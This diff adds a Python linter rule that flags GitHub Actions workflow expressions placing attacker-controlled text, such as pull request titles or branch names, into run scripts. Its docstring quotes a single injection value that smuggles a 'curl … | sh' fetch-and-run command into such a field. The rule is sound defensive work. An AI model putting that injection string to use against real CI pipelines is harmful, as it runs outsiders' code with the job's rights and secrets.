@@ -1,0 +1,72 @@
+"""The rule `untrusted-input`."""
+
+from collections.abc import Iterator
+
+from ciconv.diagnostics import Diagnostic, Severity
+from ciconv.ir.expression import Call, Expr, operands
+from ciconv.validators.github import workflows
+from ciconv.validators.github.expressions import Placed, placed
+from ciconv.validators.github.untrusted import untrusted_path
+from ciconv.validators.github.workflow import Workflow, text_of
+from ciconv.validators.rule import Rule
+from ciconv.validators.subject import Subject
+
+_HARMLESS = frozenset("contains startswith endswith hashfiles".split())  # noqa: SIM905
+_SCRIPT_INPUTS = {"actions/github-script": "script"}
+
+
+class UntrustedInput(Rule):
+    """Text that anybody may write becomes part of a script, and so may be run.
+
+    The title of a pull request, the name of a branch, a comment: who writes
+    `"; curl https://… | sh; "` there runs it with the rights and the secrets of the job. Hand it
+    over as a variable, and quote the variable:
+
+        env:
+          TITLE: ${{ github.event.pull_request.title }}
+        run: echo "$TITLE"
+    """
+
+    code = "untrusted-input"
+    summary = "text of strangers in a script"
+    severity = Severity.ERROR
+
+    def check(self, subject: Subject) -> Iterator[Diagnostic]:
+        """Yield the expressions in scripts whose value a stranger chooses."""
+        for workflow in workflows(subject):
+            for one in placed(workflow, subject):
+                if _is_script(one, workflow):
+                    for part in one.parts:
+                        yield from self._search(part, one)
+
+    def _search(self, expr: Expr, one: Placed) -> Iterator[Diagnostic]:
+        if isinstance(expr, Call) and expr.function.lower() in _HARMLESS:
+            return
+        path = untrusted_path(expr)
+        if path:
+            said = f"{path!r} may hold anything, and becomes part of a script here"
+            advice = "set a variable of 'env' to it, and use that in quotes"
+            yield self.found(expr.span or one.site.scalar.span, said, advice)
+            for inner in operands(expr):
+                yield from self._keys(inner, one)
+            return
+        for inner in operands(expr):
+            yield from self._search(inner, one)
+
+    def _keys(self, expr: Expr, one: Placed) -> Iterator[Diagnostic]:
+        """Keys inside of brackets are values as well."""
+        for inner in operands(expr):
+            yield from self._search(inner, one)
+
+
+def _is_script(one: Placed, workflow: Workflow) -> bool:
+    path = one.site.path
+    if len(path) < 5 or path[2] != "steps":
+        return False
+    if path[4] == "run":
+        return True
+    if path[4] != "with" or len(path) < 6:
+        return False
+    steps = workflow.steps(path[1])
+    uses = (text_of(steps[int(path[3])], "uses") or "").partition("@")[0].lower()
+    return _SCRIPT_INPUTS.get(uses) == path[5]
